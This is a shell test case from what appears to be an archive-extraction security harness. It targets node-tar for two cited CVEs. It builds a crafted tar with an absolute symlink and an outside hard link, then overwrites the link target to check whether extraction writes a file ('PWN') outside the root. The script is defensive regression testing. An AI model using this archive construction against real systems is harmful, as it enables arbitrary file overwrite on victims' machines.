# SPDX-License-Identifier: LGPL-2.1-or-later
# An absolute link, and a hard link to outside that is then overwritten.
# CVE-2026-23745, CVE-2026-26960.

tool='node-tar'
what='absolute link, outside hard link'
kind=control
needs='node npm python3'

tar_module()
{
	npm=$(readlink -f "$(command -v npm)")
	readlink -e "${npm%/bin/*}/node_modules/tar"
}

possible()
{
	tar_module >/dev/null
}

setup()
{
	python3 - "$T/out" <<'PY'
import io, sys, tarfile
with tarfile.open("e.tar", "w") as tar:
    link = tarfile.TarInfo("x")
    link.type = tarfile.SYMTYPE
    link.linkname = sys.argv[1]
    tar.addfile(link)
    hard = tarfile.TarInfo("h")
    hard.type = tarfile.LNKTYPE
    hard.linkname = sys.argv[1] + "/victim"
    tar.addfile(hard)
    member = tarfile.TarInfo("h")
    member.size = 4
    tar.addfile(member, io.BytesIO(b"PWN\n"))
PY
}

attack()
{
	trusted node -e '
require(process.argv[1]).x({ file: "e.tar", C: "root", sync: true })' \
	    "$(tar_module)"
}

escaped()
{
	grep -q PWN out/victim
}
